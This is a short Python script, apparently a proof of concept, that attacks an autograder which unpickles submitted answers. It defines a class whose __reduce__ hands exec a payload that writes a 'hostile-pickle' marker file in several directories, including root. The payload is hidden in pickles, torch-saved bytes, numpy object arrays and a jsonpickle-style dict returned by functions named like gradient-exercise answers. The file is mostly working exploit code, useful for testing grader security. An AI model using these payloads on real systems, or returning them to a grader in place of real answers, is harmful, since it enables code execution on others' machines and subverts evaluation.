"""Attacks a grader that unpickles: values that run code where they are read."""

# %%
import io
import pickle

import numpy as np
import torch

CODE = """
import os, tempfile
for place in (tempfile.gettempdir(), os.path.expanduser("~"), os.getcwd(), "/"):
    try:
        open(os.path.join(place, "hostile-pickle"), "w").close()
    except OSError:
        pass
"""


class Code:
    def __reduce__(self):
        return exec, (CODE,)


file = io.BytesIO()
torch.save(Code(), file)


# %%
def chain(paths):
    return Code()


def local_slopes(op, a, b):
    return pickle.dumps(Code()), pickle.dumps(Code(), 0).decode("latin-1")


def backward_pass(inputs, slopes):
    return np.array([Code()], dtype=object)


def unbroadcast(grad, shape):
    return torch.frombuffer(bytearray(file.getvalue()), dtype=torch.uint8)


def matmul_gradients(A, B, G):
    return {"__reduce__": "exec", "py/reduce": [{"py/function": "builtins.exec"}, CODE]}
